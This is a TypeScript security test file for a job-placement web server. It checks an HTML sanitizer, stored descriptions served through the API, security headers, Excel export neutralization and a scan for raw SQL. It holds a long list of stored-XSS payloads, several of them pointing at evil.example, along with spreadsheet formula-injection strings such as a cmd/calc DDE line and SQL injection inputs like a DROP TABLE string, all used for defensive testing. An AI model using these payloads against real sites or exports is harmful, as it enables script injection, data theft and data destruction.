import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { getAnnouncement, saveAnnouncement } from '@pp/contract/announcements';
import { getGovtJob, getGovtTraining, saveGovtJob, saveGovtTraining } from '@pp/contract/govt';
import { getJobDetail, postJob } from '@pp/contract/jobs';
import { getTrainingDetail, postTraining } from '@pp/contract/trainings';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { sanitizeRichText } from '../../platform/sanitize.ts';
import { seedReferenceData } from '../../seed/reference.ts';
import { insertJob, memberJob, raw, signedInEmployer, training } from '../fixtures/index.ts';
import { call, createTestApp, type TestApp } from '../harness.ts';
import { signedInUser } from '../sign-in.ts';

const serverSrc = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');

/** Stored-XSS payloads: classic, obfuscated, mutation and scheme tricks. */
const XSS = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="  JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="jav&#x09;ascript:alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="//evil.example">protocol relative</a>',
  '<p style="background:url(javascript:alert(1))">styled</p>',
  '<p onclick="alert(1)" onmouseover=alert(1)>events</p>',
  '<div><form action="https://evil.example"><input name="password"></form></div>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<base href="https://evil.example/">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<!--<script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<body onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '"><img src=x onerror=alert(1)>',
  "'';!--\"<XSS>=&{()}",
];

const DANGER =
  /<\s*(script|iframe|svg|img|object|embed|style|form|input|meta|link|base|math|video|source|details|body|template|noscript)\b|\son[a-z]+\s*=|(java|vb)script\s*:|data\s*:\s*text|style\s*=|href\s*=\s*["']?\/\//i;

function assertClean(html: string, what: string) {
  expect(DANGER.test(html), `${what}: ${html}`).toBe(false);
}

describe('rich text sanitizer', () => {
  it('removes every payload of the list and keeps the formatting the editor makes', () => {
    for (const payload of XSS) assertClean(sanitizeRichText(`<p>Intro</p>${payload}<p>Outro</p>`), payload);
    expect(sanitizeRichText('<p>A <strong>b</strong> <em>c</em></p><ul><li>d</li></ul>')).toBe(
      '<p>A <strong>b</strong> <em>c</em></p><ul><li>d</li></ul>',
    );
    const link = sanitizeRichText('<a href="https://icsi.edu" onclick="x()">ICSI</a>');
    expect(link).toContain('href="https://icsi.edu"');
    expect(link).toContain('noopener');
    expect(link).not.toContain('onclick');
  });
});

let t: TestApp;
let webDist: string;

beforeAll(async () => {
  webDist = await mkdtemp(path.join(tmpdir(), 'pp-web-'));
  await writeFile(
    path.join(webDist, 'index.html'),
    '<!doctype html><html><body><div id="root"></div></body></html>',
  );
  await writeFile(path.join(webDist, 'app.js'), 'console.log(1)');
  t = await createTestApp({ WEB_DIST: webDist, DATA_DIR: webDist });
  await seedReferenceData(t.database.db);
});
afterAll(async () => {
  await t?.close();
  await rm(webDist, { recursive: true, force: true });
});

/** The payloads in groups small enough for each description's length limit. */
function descriptions(): string[] {
  const out: string[] = [];
  for (let i = 0; i < XSS.length; i += 6) out.push(`<p>Role details.</p>${XSS.slice(i, i + 6).join('')}`);
  return out;
}

describe('stored rich text through the API', () => {
  it('stores job, training, government posting and announcement descriptions sanitized and serves them clean', async () => {
    const employer = await signedInEmployer(t);
    const admin = await signedInUser(t, 'admin');
    let n = 0;
    for (const html of descriptions()) {
      n++;
      const job = await call(
        t.app,
        postJob,
        { body: memberJob(t, { description: html }) },
        { token: employer.token },
      );
      expect(job.status, job.body.error.Message).toBe(200);
      const jobRead = await call(t.app, getJobDetail, { params: { code: job.body.result!.code } });
      assertClean(jobRead.body.result!.description, 'job');

      const tr = await call(
        t.app,
        postTraining,
        { body: training(t, { description: html }) },
        { token: employer.token },
      );
      expect(tr.status, tr.body.error.Message).toBe(200);
      const trRead = await call(t.app, getTrainingDetail, { params: { code: tr.body.result!.code } });
      assertClean(trRead.body.result!.description, 'training');

      const now = Math.floor(t.ctx.now().getTime() / 1000);
      const gj = await call(
        t.app,
        saveGovtJob,
        {
          body: {
            title: `Assistant Manager ${n}`,
            description: html,
            city: ['IN-MH-MUMBAI'],
            jobType: 'JT-FT',
            workCulture: 'No',
            jobPost: 'Assistant Manager',
            governmentType: 'GT-REG',
            companyName: 'SEBI',
            vacancy: '25',
            payScale: 'Rs. 44,500',
            ageLimit: 'Up to 30 years',
            applyURL: 'https://www.example.gov.in/apply',
            advertisementURL: '',
            startDate: now - 86400,
            endDate: now + 20 * 86400,
            minimumExperience: 0,
            maximumExperience: 5,
          },
        },
        { token: admin.token },
      );
      expect(gj.status, gj.body.error.Message).toBe(200);
      const gjRead = await call(t.app, getGovtJob, { params: { code: gj.body.result!.code } });
      assertClean(gjRead.body.result!.description, 'govt job');

      const gt = await call(
        t.app,
        saveGovtTraining,
        {
          body: {
            check: 'i',
            title: `Young Professionals ${n}`,
            description: html,
            city: ['IN-MH-MUMBAI'],
            designation: 'Young Professional',
            governmentType: 'GT-REG',
            companyName: 'SEBI',
            vacancy: '10',
            stipend: 'Rs. 60,000',
            ageLimit: 'Up to 28 years',
            applyURL: 'https://www.example.gov.in/ypp',
            advertisementURL: '',
            trainingStartDate: now - 86400,
            trainingEndDate: now + 10 * 86400,
            minimumQualification: 'Q-CSP-PASS',
          },
        },
        { token: admin.token },
      );
      expect(gt.status, gt.body.error.Message).toBe(200);
      const gtRead = await call(t.app, getGovtTraining, { params: { code: gt.body.result!.code } });
      assertClean(gtRead.body.result!.description, 'govt training');

      const an = await call(
        t.app,
        saveAnnouncement,
        { body: { title: `Notice ${n}`, body: html, link: '' } },
        { token: admin.token },
      );
      expect(an.status, an.body.error.Message).toBe(200);
      const anRead = await call(t.app, getAnnouncement, { params: { code: an.body.result!.code } });
      assertClean(JSON.stringify(anRead.body.result), 'announcement');
    }
  });
});

describe('security headers', () => {
  it('sends the Content Security Policy and the other headers with every page of the client', async () => {
    for (const url of ['/PlacementApp/', '/PlacementApp/member/login', '/PlacementApp/app.js']) {
      const res = await t.app.inject({ method: 'GET', url });
      expect(res.statusCode, url).toBe(200);
      const csp = String(res.headers['content-security-policy']);
      expect(csp).toContain("default-src 'self'");
      expect(csp).toMatch(/script-src 'self'( 'wasm-unsafe-eval')?;/);
      expect(csp).not.toMatch(/script-src[^;]*'unsafe-inline'/);
      expect(csp).not.toMatch(/script-src[^;]*'unsafe-eval'/);
      expect(csp).toContain("frame-ancestors 'none'");
      expect(csp).toContain("object-src 'none'");
      expect(csp).toContain("base-uri 'self'");
      expect(csp).toContain("form-action 'self'");
      expect(res.headers['x-frame-options']).toBe('DENY');
      expect(res.headers['x-content-type-options']).toBe('nosniff');
      expect(res.headers['referrer-policy']).toBe('same-origin');
    }
  });

  it('marks API answers nosniff and not cacheable, and never sets the session cookie readable by script', async () => {
    const res = await raw(t.app, 'GET', 'version');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['cache-control']).toBe('no-store');
    const user = await signedInUser(t, 'member');
    expect(user.token).toBeTruthy();
  });
});

describe('formula injection in Excel exports', () => {
  it('writes formula-looking text as text in a real export (admin jobs)', async () => {
    const employer = await signedInEmployer(t);
    const admin = await signedInUser(t, 'admin');
    const evil = [
      '=HYPERLINK("https://evil.example","x")',
      '+cmd|" /C calc"!A0',
      '-2+3',
      '@SUM(1)',
      '\t=1',
      '\r=1',
    ];
    for (const title of evil) await insertJob(t.database.db, employer.user.id, new Date(), { title });
    const res = await t.app.inject({
      method: 'GET',
      url: '/placementapi/v1/job/exportJobs',
      headers: { authorization: `Bearer ${admin.token}` },
    });
    expect(res.statusCode, res.body.slice(0, 200)).toBe(200);
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer);
    const cells: string[] = [];
    wb.getWorksheet('Sheet1')!.eachRow((row) =>
      row.eachCell((cell) => {
        if (cell.formula) cells.push(`formula: ${cell.formula}`);
        if (typeof cell.value === 'string') cells.push(cell.value);
      }),
    );
    expect(cells.filter((c) => c.startsWith('formula:'))).toEqual([]);
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    for (const title of evil.slice(0, 4)) expect(cells).toContain(`'${title}`);
  });

  it('builds every export through excelDownload, which neutralizes every text cell', async () => {
    // Generic guarantee: the only workbook writer is platform/excel.ts (cellOf neutralizes every
    // string and list cell; platform/excel.test.ts), and every export endpoint calls excelDownload
    // or excelOfBatches (batches read with keysetBatches, written by excelDownload).
    const files = await sourceFiles();
    const writers = files.filter(
      (f) => /from 'exceljs'/.test(f.text) && !f.name.endsWith('platform/excel.ts'),
    );
    expect(writers.map((f) => f.name)).toEqual([]);
    const callers = files.filter(
      (f) => /\bexcel(Download|OfBatches)\(/.test(f.text) && !f.name.endsWith('platform/excel.ts'),
    );
    expect(callers.length).toBeGreaterThanOrEqual(4);
    for (const f of callers)
      expect(f.text, f.name).toMatch(
        /import \{[^}]*\bexcel(Download|OfBatches)\b[^}]*\} from '[./]*platform\/excel\.ts'/,
      );
    // No CSV export, which no neutralization inside a workbook would protect.
    expect(files.filter((f) => /text\/csv/.test(f.text)).map((f) => f.name)).toEqual([]);
  });
});

async function sourceFiles(): Promise<{ name: string; text: string }[]> {
  const out: { name: string; text: string }[] = [];
  const walk = async (dir: string) => {
    for (const entry of await readdir(dir, { withFileTypes: true })) {
      const full = path.join(dir, entry.name);
      if (entry.isDirectory()) {
        if (entry.name !== 'test') await walk(full);
      } else if (entry.name.endsWith('.ts') && !entry.name.endsWith('.test.ts')) {
        out.push({ name: path.relative(serverSrc, full), text: await readFile(full, 'utf8') });
      }
    }
  };
  await walk(serverSrc);
  return out;
}

/**
 * Raw SQL built from strings. Drizzle's sql`` template binds every ${value} as a parameter; these
 * are the ways around it. Each allowed use names why its text can hold no input.
 */
const RAW_SQL_ALLOWED: Record<string, { name: string; count: number; why: string }[]> = {
  'features/admin/admin.repo.ts': [
    {
      name: 'sql.raw(',
      count: 4,
      why: 'weekly(): table, column and filter are constants passed by weeklyCounts() in the same file',
    },
  ],
  'db/client.ts': [
    {
      name: 'query/execute/exec with a template or concatenated string',
      count: 1,
      why: 'LISTEN on a channel of the fixed Channel type (a constant of ours), quoted with escapeIdentifier',
    },
  ],
  'ops/backup.ts': [
    { name: 'exec( on a connection', count: 1, why: "db.exec('CHECKPOINT'): a constant statement" },
  ],
};

const RAW_SQL_PATTERNS: { name: string; pattern: RegExp }[] = [
  { name: 'sql.raw(', pattern: /sql\.raw\(/g },
  {
    name: 'query/execute/exec with a template or concatenated string',
    pattern: /\.(query|execute|exec)\(\s*(`[^`]*\$\{|['"][^'"]*['"]\s*\+)/g,
  },
  { name: 'exec( on a connection', pattern: /\.exec\(\s*['"`]/g },
  { name: 'query( with a string variable', pattern: /\.query\(\s*[a-z][A-Za-z]*\s*[,)]/g },
];

describe('no raw SQL built from strings', () => {
  it('finds only the allowed, justified raw SQL in apps/server/src', async () => {
    const found: string[] = [];
    for (const f of await sourceFiles()) {
      for (const p of RAW_SQL_PATTERNS) {
        const hits = f.text.match(p.pattern)?.length ?? 0;
        const allowed = RAW_SQL_ALLOWED[f.name]?.find((a) => a.name === p.name)?.count ?? 0;
        if (hits > allowed) found.push(`${f.name}: ${p.name} x${hits}`);
      }
    }
    expect(found).toEqual([]);
  });

  it('keeps SQL metacharacters in input as data', async () => {
    const employer = await signedInEmployer(t);
    for (const keyword of ["' OR '1'='1", "'; DROP TABLE jobs; --", '%', '_', '\\']) {
      const res = await raw(t.app, 'GET', `job/search?keyword=${encodeURIComponent(keyword)}`, {
        token: employer.token,
      });
      expect(res.status).toBeLessThan(500);
    }
    // The tables are all still there, with their rows.
    const jobs = await raw(t.app, 'GET', 'job/recent');
    expect(jobs.status).toBe(200);
  });
});
